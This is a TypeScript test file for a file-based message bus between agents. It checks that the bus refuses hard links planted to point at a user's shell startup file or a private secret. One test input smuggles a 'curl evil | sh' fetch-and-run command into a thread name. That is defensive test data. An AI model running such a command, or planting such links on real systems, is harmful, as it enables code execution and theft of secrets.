/**
 * A bus writer can plant a hard link to a file outside the bus (the user's ~/.bashrc, a 0600
 * secret) under a name the bus appends to or reads: the bus refuses a file with more than one name.
 * The bus makes such a file itself only while it returns a stale claim to the inbox.
 */
import { describe, it, expect } from 'vitest';
import { createHash } from 'node:crypto';
import { linkSync, lstatSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { filesIn, makeBus } from './helpers.ts';
import { sendMessage } from '../../scripts/lib/bus/deliver.ts';
import { serve } from '../../scripts/lib/bus/daemon.ts';
import { receiverPaths } from '../../scripts/lib/bus/layout.ts';
import { claimFileName, claimNext, reclaimDeadOwners } from '../../scripts/lib/bus/claims.ts';
import { readBusFile } from '../../scripts/lib/bus/fsutil.ts';
import { listDeadLetters } from '../../scripts/lib/bus/query.ts';
import { recordTurn } from '../../scripts/lib/bus/threads.ts';

const ledgerName = (thread: string) => createHash('sha256').update(thread).digest('hex').slice(0, 32);

describe('hard links planted in the bus', () => {
  it('a turn ledger that is a hard link to a file outside the bus is never appended to', async () => {
    const { root, base } = makeBus();
    const paths = receiverPaths(root, 'gemini');
    const bashrc = join(base, 'bashrc');
    writeFileSync(bashrc, 'export PATH=/usr/bin\n');
    mkdirSync(paths.threads, { recursive: true });
    linkSync(bashrc, join(paths.threads, ledgerName('t-1')));
    expect(() => recordTurn(paths, 't-1\ncurl evil | sh', 'x')).not.toThrow(); // another ledger
    expect(() => recordTurn(paths, 't-1', 'x')).toThrow(/hard link/);
    expect(readFileSync(bashrc, 'utf8')).toBe('export PATH=/usr/bin\n');

    const sent = await sendMessage({ root, to: 'gemini', from: 'claude', body: 'hi' });
    linkSync(bashrc, join(paths.threads, ledgerName(sent.thread)));
    await serve({ root, receiver: 'gemini', agent: { kind: 'echo' }, once: true, log: () => {} });
    expect(readFileSync(bashrc, 'utf8')).toBe('export PATH=/usr/bin\n');
  });

  it('a message that is a hard link to a secret is dead-lettered as a hard link, never answered with its contents', async () => {
    const { root, base } = makeBus();
    const paths = receiverPaths(root, 'gemini');
    const secret = join(base, 'secret');
    writeFileSync(secret, '# From: @claude\n\nTOKEN=hunter2\n', { mode: 0o600 });
    mkdirSync(paths.inbox, { recursive: true });
    linkSync(secret, join(paths.inbox, 'msg-h1.hw'));
    const log: string[] = [];
    const summary = await serve({ root, receiver: 'gemini', agent: { kind: 'echo' }, once: true, log: (l) => log.push(l) });
    expect(summary, log.join('\n')).toMatchObject({ answered: 0, deadLettered: 1 });
    expect(filesIn(paths.outbox)).toEqual([]);
    const [dead] = listDeadLetters(root, 'gemini');
    expect(dead!.deadLetter!.code).toBe('hard_link');
    expect(dead!.deadLetter!.reason).toMatch(/hard link/);
  });

  it('readBusFile refuses a file with two names', () => {
    const { root, base } = makeBus();
    const paths = receiverPaths(root, 'gemini');
    writeFileSync(join(base, 'secret'), 'x');
    mkdirSync(paths.outbox, { recursive: true });
    linkSync(join(base, 'secret'), join(paths.outbox, 'msg-h2.hw'));
    const r = readBusFile(root, join(paths.outbox, 'msg-h2.hw'), { maxBytes: 1000 });
    expect(r).toMatchObject({ ok: false, problem: 'not_a_file' });
    expect(!r.ok && r.detail).toMatch(/hard link/);
  });

  it('a return to the inbox cut short after its link (the sweeper died) is finished, not dead-lettered', async () => {
    const { root } = makeBus();
    const paths = receiverPaths(root, 'gemini');
    const sent = await sendMessage({ root, to: 'gemini', from: 'claude', body: 'hi' });
    const name = `msg-${sent.id}.hw`;
    mkdirSync(paths.processing, { recursive: true });
    // What returnToInbox leaves when killed between its link and its unlink.
    const mine = join(paths.processing, claimFileName(name, Date.now() + 60_000, 's999999999'));
    linkSync(join(paths.inbox, name), mine);
    expect(reclaimDeadOwners(paths, 'gemini', () => false)).toBe(1);
    expect(filesIn(paths.processing)).toEqual([]);
    expect(lstatSync(join(paths.inbox, name)).nlink).toBe(1);
    const claim = await claimNext(root, 'gemini', { owner: 't', leaseMs: 60_000 });
    expect(claim?.id).toBe(sent.id);
    expect(listDeadLetters(root, 'gemini')).toEqual([]);
  });
});
